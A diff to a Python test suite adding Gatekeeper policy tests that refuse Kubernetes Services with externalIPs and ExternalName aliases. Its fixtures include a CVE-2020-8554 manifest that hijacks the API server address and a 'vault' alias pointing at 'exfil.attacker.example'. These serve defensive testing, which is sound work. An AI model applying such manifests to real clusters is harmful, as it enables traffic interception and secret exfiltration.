@@ -453,6 +453,93 @@ def test_block_node_port() -> None:
     assert violations("K8sBlockNodePort", service, {}) == ["Service <hmi> is of type NodePort, which is not allowed"]
 
 
+def service(name: str = "hmi", **spec: Any) -> dict[str, Any]:
+    return {
+        "apiVersion": "v1",
+        "kind": "Service",
+        "metadata": {"name": name, "namespace": "line-press", "labels": {"app.kubernetes.io/name": name}},
+        "spec": {
+            "type": "ClusterIP",
+            "selector": {"app.kubernetes.io/name": name},
+            "ports": [{"name": "http", "port": 80, "targetPort": 8080, "protocol": "TCP"}],
+            **spec,
+        },
+    }
+
+
+# CVE-2020-8554, as a line team member would `kubectl apply -f` it in their own namespace: a plain ClusterIP
+# Service whose externalIPs name the API server's address, so kube-proxy on every node hands the traffic
+# nodes and platform components send to 10.0.0.1:6443 to the team's own pod
+API_SERVER_INTERCEPT: dict[str, Any] = service(
+    "api-intercept",
+    ports=[{"name": "https", "port": 6443, "targetPort": 6443, "protocol": "TCP"}],
+    externalIPs=["10.0.0.1"],
+)
+# an in-cluster name that resolves to a host of the team's choice (a CNAME kube-dns answers for it)
+EXTERNAL_NAME_ALIAS: dict[str, Any] = {
+    "apiVersion": "v1",
+    "kind": "Service",
+    "metadata": {"name": "vault", "namespace": "line-press"},
+    "spec": {"type": "ExternalName", "externalName": "exfil.attacker.example"},
+}
+
+
+def applied(name: str) -> dict[str, Any]:
+    """The parameters of a constraint as the stack applies it."""
+    return next(s for s in constraints.constraint_specs([], [], "site") if s.name == name).parameters
+
+
+@pytest.mark.parametrize("operation", ["CREATE", "UPDATE", None])
+def test_external_ips_refuse_the_api_server_intercept(operation: str | None) -> None:
+    """Refused at admission (CREATE), when added to an existing Service (UPDATE: Services are mutable) and
+    reported by the audit (no operation) for a Service admitted before the constraint."""
+    parameters = applied("no-external-ips")
+    assert parameters == {"allowedIPs": []}
+    assert violations("K8sExternalIPs", API_SERVER_INTERCEPT, parameters, operation) == [
+        'Service <api-intercept> has forbidden external IPs: ["10.0.0.1"]'
+    ]
+
+
+def test_external_ips_pass_only_the_allowed_addresses() -> None:
+    parameters = {"allowedIPs": ["10.0.0.1", "192.168.10.20"]}
+    jsonschema.validate(parameters, templates.TEMPLATES["K8sExternalIPs"].parameters)
+    assert violations("K8sExternalIPs", API_SERVER_INTERCEPT, parameters) == []
+    # exact match, and only the addresses that are not listed are reported
+    claims = service("gateway", externalIPs=["192.168.10.20", "192.168.10.2", "10.0.0.10"])
+    assert violations("K8sExternalIPs", claims, parameters, "UPDATE") == [
+        'Service <gateway> has forbidden external IPs: ["10.0.0.10", "192.168.10.2"]'
+    ]
+    # without the parameter nothing is allowed, as in the library
+    assert violations("K8sExternalIPs", API_SERVER_INTERCEPT, {}) != []
+
+
+@pytest.mark.parametrize("operation", ["CREATE", "UPDATE", None])
+def test_plain_services_pass_the_service_templates(operation: str | None) -> None:
+    for plain in (service(), service(externalIPs=[]), service(type="LoadBalancer")):
+        assert violations("K8sExternalIPs", plain, applied("no-external-ips"), operation) == []
+        assert violations("K8sBlockExternalName", plain, applied("no-external-name-services"), operation) == []
+
+
+@pytest.mark.parametrize("operation", ["CREATE", "UPDATE", None])
+def test_external_name_services_are_refused(operation: str | None) -> None:
+    """Also when an existing ClusterIP Service is changed to ExternalName (UPDATE)."""
+    message = "Service <vault> is of type ExternalName (an alias for <exfil.attacker.example>), which is not allowed"
+    parameters = applied("no-external-name-services")
+    assert parameters == {}
+    assert violations("K8sBlockExternalName", EXTERNAL_NAME_ALIAS, parameters, operation) == [message]
+
+
+def test_service_constraints_judge_services_outside_the_platform_namespaces() -> None:
+    for name in ("no-external-ips", "no-external-name-services"):
+        spec = next(s for s in constraints.constraint_specs([], [], "edge-small") if s.name == name)
+        body = constraints.constraint(spec, "testwerk", "deny", ["kube-system", "gatekeeper-system"])
+        assert body["spec"]["match"] == {
+            "kinds": [{"apiGroups": [""], "kinds": ["Service"]}],
+            "excludedNamespaces": ["gatekeeper-system", "kube-system"],
+        }
+        assert body["spec"]["enforcementAction"] == "deny"
+
+
 def test_every_template_is_exercised_here() -> None:
     tested = {
         "K8sAllowedReposv2",
@@ -463,6 +550,8 @@ def test_every_template_is_exercised_here() -> None:
         "K8sPSPHostNamespace",
         "K8sRequiredLabels",
         "K8sBlockNodePort",
+        "K8sExternalIPs",
+        "K8sBlockExternalName",
     }
     assert set(templates.TEMPLATES) == tested
 
